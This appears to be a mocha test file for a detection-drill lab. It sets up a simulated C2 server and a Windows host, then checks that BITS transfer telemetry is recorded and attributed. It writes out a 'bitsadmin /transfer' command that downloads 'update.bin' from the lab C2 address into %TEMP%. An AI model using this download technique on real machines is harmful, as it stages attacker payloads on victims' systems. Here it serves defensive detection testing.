import { expect } from 'chai';
import { createDockerDriver } from '../../src/lab/docker/driver.ts';
import type { Driver } from '../../src/lab/driver.ts';
import { createNamespaceDriver } from '../../src/lab/namespace/driver.ts';
import type { LabEvent } from '../../src/model/event.ts';
import { realTime } from '../../src/model/drill-clock.ts';
import type { ServiceSpec } from '../../src/model/topology.ts';
import { collectEvidence, labFacts } from '../../src/run/evidence.ts';
import { invocationFor } from '../../src/run/executors.ts';
import { windowsDrive, windowsServices } from '../../src/windows/drive.ts';
import { hostSpec, openDrillLab, stepOn, zones } from './drill-lab.ts';
import { requireLab } from './require-lab.ts';

const hosting: ServiceSpec = {
  name: 'c2',
  kind: 'c2',
  options: {
    ...{ address: '0.0.0.0', http: '8080', https: '', tcp: '', keepAlive: true, certificate: 'lab' },
    ...{ answer: 'checked in', sleep: 60, jitter: 0, seed: 1, files: '/update.bin 4096' },
  },
};

for (const driver of [createNamespaceDriver({}), createDockerDriver({})] satisfies readonly Driver[]) {
  describe(`a BITS job on a Windows host of the ${driver.name} driver`, function () {
    this.timeout(60_000);
    before(async function () {
      await requireLab(this, driver);
    });

    it('is transferred by the service, and is of the test that asked for it', async () => {
      await using drill = await openDrillLab(driver);
      const spec = { ...hostSpec('win-1', '10.77.1.10'), persona: 'windows' as const, user: 'LAB\\analyst' };
      const server = await drill.lab.addHost({ ...hostSpec('c2', '198.51.100.20'), services: [hosting] }, []);
      const windows = await drill.lab.addHost(spec, windowsDrive(spec.user));
      const [web, own] = [stepOn(server, 'service'), stepOn(windows, 'service')];
      const startedAt = Date.now() * 1000;
      const [c2, services] = [
        await server.startService(hosting, web),
        await windows.startResident(
          { name: 'services', kind: 'windows', ...windowsServices(spec.user, spec.name) },
          own,
        ),
      ];
      const text = 'bitsadmin /transfer job http://198.51.100.20:8080/update.bin %TEMP%\\update.bin';
      const invocation = invocationFor('command_prompt', text, windows.spec);
      if ('unsupported' in invocation) throw new Error(invocation.unsupported);
      const { signal } = new AbortController();
      const asking = await windows.exec({ step: stepOn(windows), ...invocation, timeoutMs: 20_000, signal });
      expect(asking.stdout + asking.stderr).to.match(/cmdlets\.\r\n\r\n\r\nTransfer complete\.\r\n$/);
      await Promise.all([windows.flushTrace(), server.flushTrace()]);
      await drill.lab.down();

      const furniture = [
        { step: web, argv: ['c2'], pid: c2.pid, startedAt, finishedAt: startedAt },
        { step: own, argv: ['windows'], pid: services.pid, startedAt, finishedAt: startedAt },
      ];
      const outputs = await collectEvidence(labFacts(drill.lab, zones), [asking, ...furniture], realTime);
      const events = outputs.flatMap((output) => output.events);
      const ofService = (action: string): readonly LabEvent[] =>
        events.filter(
          (event) =>
            event['event.action'] === action &&
            event['process.command_line'] === 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS',
        );
      const cause = { 'tocsin.origin': 'test', 'tocsin.step': asking.step.id, 'tocsin.cause': 'bits' };
      const [connection, ...more] = ofService('connect');
      expect(connection).to.include({ ...cause, 'destination.port': 8080, 'user.name': 'SYSTEM' });
      expect(more).to.deep.equal([]);
      const [created] = ofService('file-create');
      expect(created).to.include(cause);
      expect(created?.['file.name']).to.match(/^BIT[\dA-F]{4}\.tmp$/);
      const [renamed] = ofService('file-rename');
      expect(renamed).to.include({ ...cause, 'file.name': 'update.bin' });
      const records = ofService('log-record');
      expect(records.map((event) => event['winlog.event_id'])).to.deep.equal([3, 59, 60, 4]);
      for (const record of records) expect(record).to.include(cause);
      expect(
        events.filter((event) => event['process.name'] === 'bitsadmin.exe' && event['event.action'] === 'connect'),
      ).to.deep.equal([]);
      const served = outputs.find(({ report }) => report.sensor === 'service-log')?.events ?? [];
      expect(served.map((event) => [event['tocsin.origin'], event['tocsin.step']])).to.deep.equal([
        ['test', asking.step.id],
        ['test', asking.step.id],
      ]);
      expect(outputs.flatMap(({ report }) => report.losses.filter(({ kind }) => kind === 'unlinked'))).to.deep.equal(
        [],
      );
    });
  });
}
